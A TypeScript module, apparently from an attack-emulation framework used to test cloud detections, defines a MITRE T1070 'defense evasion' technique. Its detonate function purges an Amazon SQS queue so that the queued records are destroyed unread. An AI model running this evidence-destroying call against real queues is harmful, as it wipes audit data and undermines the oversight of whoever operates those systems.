import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ queueUrl: z.string().min(1) });

/** The records wait in the queue for somebody to read them. They need not. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'defense-evasion.evidence-queue-purged',
  title: 'Purge the queue that holds the records',
  purpose:
    'What the destinations said is gone before it was read, and the trail does not say what it was.',
  mitre: ['T1070'],
  sources: [
    {
      title: 'Indicator Removal, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1070/',
    },
    {
      title: 'PurgeQueue, Amazon SQS API Reference',
      url: 'https://docs.aws.amazon.com/AWSSimpleQueueService/latest/APIReference/API_PurgeQueue.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { queue: true },
  needs: ['sqs:PurgeQueue'],
  leaves: [{ service: 'sqs.amazonaws.com', name: 'PurgeQueue', outcome: 'succeeds' }],
  repeatable: false,
  async detonate({ inputs: { queueUrl }, aws, say }) {
    say(`Purge ${queueUrl}`);
    await aws.sqs().purgeQueue({ QueueUrl: queueUrl });
  },
  undo: {
    kind: 'redeploy',
    because: 'a purged message is gone',
  },
};
